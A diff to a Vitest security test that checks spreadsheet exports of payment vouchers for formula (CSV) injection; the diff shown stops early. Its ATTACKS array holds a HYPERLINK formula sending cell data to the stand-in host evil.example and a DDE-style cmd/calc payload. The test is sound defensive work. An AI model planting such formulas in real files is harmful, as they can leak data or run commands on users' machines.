@@ -1,8 +1,6 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestDatabase, type TestDatabase } from '../db/test-database.js';
-import { loginAs, startTestServer, type TestServer } from '../features/auth/test-helpers.js';
-import { seedDrillData } from '../features/drilldown/test-data.js';
+import { type TestDatabase, type TestServer, seedDrillData, openApiTest, type ApiTest } from '../testing/index.js';
 
 // Issue 13, item 13: delivered text that a spreadsheet would run as a formula (OWASP CSV injection).
 const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-2+3', '\t=1+1', '\r=1+1'];
@@ -12,20 +10,22 @@ describe('security: formula injection in exports', () => {
   let srv: TestServer;
   let staff: string;
   let nos: string[];
+  let t: ApiTest;
   beforeAll(async () => {
-    db = await createTestDatabase();
-    await seedDrillData(db.knex);
-    nos = await db.knex('payment_vouchers').where('payee_name', 'like', '测试收款%').orderBy('voucher_no').pluck('voucher_no');
-    // Four test vouchers carry the attacks: 用途 the first four, 收款人 the third to the sixth.
-    for (const [i, no] of nos.entries()) {
-      await db.knex('payment_vouchers').where({ voucher_no: no }).update({ purpose: ATTACKS[i], payee_name: ATTACKS[i + 2] });
-    }
-    srv = await startTestServer(db.knex);
-    staff = await loginAs(srv.baseUrl, 'staff');
+    t = await openApiTest({
+      seed: async (db) => {
+        await seedDrillData(db.knex);
+        nos = await db.knex('payment_vouchers').where('payee_name', 'like', '测试收款%').orderBy('voucher_no').pluck('voucher_no');
+        // Four test vouchers carry the attacks: 用途 the first four, 收款人 the third to the sixth.
+        for (const [i, no] of nos.entries()) {
+          await db.knex('payment_vouchers').where({ voucher_no: no }).update({ purpose: ATTACKS[i], payee_name: ATTACKS[i + 2] });
+        }
+      },
+    });
+    ({ db, srv, staff } = t);
   });
   afterAll(async () => {
-    await srv?.close();
-    await db?.drop();
+    await t?.close();
   });
 
   const download = async (format: string) => {
